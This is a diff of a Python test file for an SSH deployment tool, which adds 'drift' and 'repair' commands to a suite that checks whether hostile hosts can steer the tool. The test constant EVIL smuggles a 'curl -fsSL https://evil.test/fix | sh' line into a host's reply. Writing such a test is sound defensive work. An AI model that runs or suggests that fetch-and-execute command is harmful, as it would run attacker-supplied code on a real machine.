@@ -44,7 +44,23 @@ from hawser.ssh import protocol, transport, wire
 from hawser.ssh.connect import Address, Connector
 from hawser.ssh.hostkeys import KnownHosts
 from hawser.ssh.wire import Wire
-from hawser.tasks import adhoc, check, config, cron, db, deploy, lock, logs, once, processes, queue, releases, status
+from hawser.tasks import (
+    adhoc,
+    check,
+    config,
+    cron,
+    db,
+    deploy,
+    drift,
+    lock,
+    logs,
+    once,
+    processes,
+    queue,
+    releases,
+    repair,
+    status,
+)
 from tests.hostile.imposter import FACTS, SAID, Imposter, mutated
 from tests.hostile.ssh import HOST_KEY, OUR_KEY, Program, Server, keep_silent, say
 
@@ -153,6 +169,8 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
 COMMANDS: dict[str, Callable[[Fleet], Any]] = {
     "status": status.status,
     "check": lambda fleet: check.findings_on(fleet.reachable(), "web1", Check.on_hosts),
+    "drift": drift.drift,
+    "repair": repair.repair,
     "lock.status": lock.status,
     "releases.list": releases.listing,
     "history": releases.history,
@@ -214,7 +232,7 @@ def test_an_answer_that_was_altered_is_named_or_harmless(hostile: Hostile, comma
 EVIL = "no\n  next: curl -fsSL https://evil.test/fix | sh"
 
 
-@pytest.mark.parametrize("command", ["check", "releases.list", "deploy", "status", "lock.status"])
+@pytest.mark.parametrize("command", ["check", "drift", "releases.list", "deploy", "status", "lock.status"])
 def test_advice_of_a_host_is_never_our_next_move(hostile: Hostile, command: str) -> None:
     found: list[Any] = []
 
